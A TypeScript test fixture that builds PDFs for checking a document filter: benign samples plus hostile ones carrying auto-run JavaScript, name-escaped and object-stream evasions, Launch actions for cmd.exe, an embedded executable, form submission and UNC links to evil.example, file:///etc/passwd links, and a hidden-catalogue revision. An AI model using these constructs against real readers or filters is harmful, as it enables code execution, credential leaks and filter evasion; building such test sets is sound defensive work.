import { deflateSync } from 'node:zlib';

type Papers = { name: string; bytes: Buffer }[];

/** A PDF of one empty page; `more` goes into its catalogue, `notes` onto its page, and `others` are objects from number 4 on. */
export function pdf(more = '', { notes = '', others = [] as string[] } = {}): Buffer {
  return written([
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${notes} >>`,
    ...others,
  ]);
}

function written(objects: string[]): Buffer {
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = body.length;
    body += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return String(offset).padStart(10, '0');
  });
  const table = ['0000000000 65535 f ', ...offsets.map((offset) => `${offset} 00000 n `)].join('\n');
  const size = objects.length + 1;
  const end = `xref\n0 ${size}\n${table}\ntrailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(body + end, 'latin1');
}

/** The same document with all its objects in one compressed stream, as most programs write them. */
function pdfWithObjectStream(more = ''): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  const starts = objects.map((_, at) => objects.slice(0, at).join(' ').length + (at > 0 ? 1 : 0));
  const index = `${starts.map((start, at) => `${at + 1} ${start}`).join(' ')} `;
  const packed = deflateSync(Buffer.from(index + objects.join(' ')));
  const head = '%PDF-1.7\n';
  const stream = Buffer.concat([
    Buffer.from(
      `4 0 obj\n<< /Type /ObjStm /N 3 /First ${index.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const start = head.length + stream.length;
  const entry = (kind: number, place: number, at: number) => [kind, place >> 8, place & 255, at];
  const entries = Buffer.from(
    [
      entry(0, 0, 0),
      entry(2, 4, 0),
      entry(2, 4, 1),
      entry(2, 4, 2),
      entry(1, head.length, 0),
      entry(1, start, 0),
    ].flat(),
  );
  const table = Buffer.concat([
    Buffer.from(`5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length ${entries.length} >>\nstream\n`),
    entries,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`),
  ]);
  return Buffer.concat([Buffer.from(head), stream, table]);
}

const onOpening = (action: string) => pdf(`/OpenAction << ${action} >>`);
const onTap = (action: string, others: string[] = []) =>
  pdf('', { notes: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`, others });
const onPage = (note: string, others: string[] = []) =>
  pdf('', { notes: `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${note} >>]`, others });
const attachment = '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream';
const specification = '<< /Type /Filespec /F (cv.exe) /EF << /F 5 0 R >> >>';

/** PDFs that hold files or programs, or lead where no paper leads. */
export function hostilePapers(): Papers {
  const papers: Record<string, Buffer> = {
    'a script': onOpening('/S /JavaScript /JS (app.alert(1))'),
    'a script in disguise': onOpening('/S /Java#53cript /J#53 (app.alert(1))'),
    'a script in an object stream': pdfWithObjectStream('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    'a script among the names': pdf('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'),
    'a script when a page is left': pdf('', { notes: '/AA << /C << /S /JavaScript /JS (1) >> >>' }),
    'a script behind a harmless action': pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>', {
      others: ['<< /S /JavaScript /JS (1) >>'],
    }),
    'a script in an object of its own': pdf('/OpenAction 4 0 R', { others: ['<< /S /JavaScript /JS (1) >>'] }),
    'a script in a stream': pdf('/OpenAction << /S /JavaScript /JS 4 0 R >>', {
      others: ['<< /Length 1 >>\nstream\n1\nendstream'],
    }),
    'a script that a film brings': onOpening('/S /Rendition /OP 0 /JS (app.alert(1))'),
    'a program': onOpening('/S /Launch /F (cmd.exe)'),
    'a program on Windows': onTap('/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>'),
    'a file inside': pdf('/Names << /EmbeddedFiles << /Names [(cv) 4 0 R] >> >>', {
      others: [specification, attachment],
    }),
    'a file inside a note': onPage('/Subtype /FileAttachment /FS 4 0 R', [specification, attachment]),
    'a file that belongs to it': pdf('/AF [4 0 R]', { others: [specification, attachment] }),
    'a collection of files': pdf('/Collection << /Type /Collection >>'),
    'a form that is sent': onTap('/S /SubmitForm /F << /FS /URL /F (https://evil.example/) >>'),
    'a form that fills itself': onOpening('/S /ImportData /F (data.fdf)'),
    'a form with programs': pdf('/AcroForm << /Fields [] /XFA 4 0 R >>', {
      others: ['<< /Length 6 >>\nstream\n<xdp/>\nendstream'],
    }),
    'a way into another file': onTap('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
    'a way into a file inside': onTap('/S /GoToE /T << /R /C /N (a) >>'),
    'an address of a file': onTap('/S /URI /URI (file:///etc/passwd)'),
    'an address of a share': onTap('/S /URI /URI (\\\\\\\\evil.example\\\\share)'),
    'an address that is a script': onTap('/S /URI /URI (java\\163cript:alert\\(1\\))'),
    'an address in hexadecimal': onTap(`/S /URI /URI <${Buffer.from('file:///etc/passwd').toString('hex')}>`),
    'addresses below a share': pdf('/URI << /Base (file://evil.example/share/) >>'),
    'an action that nobody knows': onTap('/S /Teleport'),
    'a film': onPage('/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR >> >>'),
    'a rich film': onPage('/Subtype /RichMedia'),
    'a sound': onPage('/Subtype /Sound'),
    'content from elsewhere': pdf('', {
      notes: '/Contents 4 0 R',
      others: ['<< /Length 0 /F (\\\\\\\\evil.example\\\\share) >>\nstream\n\nendstream'],
    }),
    'a page of another file': pdf('', {
      others: [
        '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream',
      ],
    }),
  };
  return Object.entries(papers).map(([name, bytes]) => ({ name: `${name}.pdf`, bytes }));
}

/** Papers as people send them: with addresses, a table of contents that leads to pages, and a form without actions. */
export function honestPapers(): Papers {
  return [
    { name: 'empty.pdf', bytes: pdf() },
    { name: 'packed.pdf', bytes: pdfWithObjectStream() },
    { name: 'with a page to open.pdf', bytes: pdf('/OpenAction [3 0 R /Fit]') },
    { name: 'with an address.pdf', bytes: onTap('/S /URI /URI (https://www.uni.example/a?b=c:d)') },
    { name: 'with a bare address.pdf', bytes: onTap('/S /URI /URI (www.uni.example/in/gegexa)') },
    { name: 'with a mailbox.pdf', bytes: onTap('/S /URI /URI (mailto:gegexa@uni.example)') },
    { name: 'with a way to a page.pdf', bytes: onTap('/S /GoTo /D [3 0 R /Fit]') },
    { name: 'with a form.pdf', bytes: pdf('/AcroForm << /Fields [] >>') },
  ];
}

/** Nearly 10 MB that take a careless reader seconds: a name of nothing but escaped letters. */
export const slowPaper = (): Buffer => pdf(`/${'#41'.repeat(3_300_000)} 1`);

/** A script in an object inside a stream, to which the document's directory points for its catalogue: only some readers find it. */
export function paperInPaper(): Buffer {
  const hidden =
    '6 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n';
  const stream = `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`;
  const text = pdf('', { others: [stream] }).toString('latin1');
  const start = text.indexOf('xref\n0 ');
  const table = `xref\n0 1\n0000000000 65535 f \n6 1\n${String(text.indexOf('6 0 obj')).padStart(10, '0')} 00000 n \n`;
  const trailer = `trailer\n<< /Size 7 /Root 6 0 R /Prev ${start} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + table + trailer, 'latin1');
}
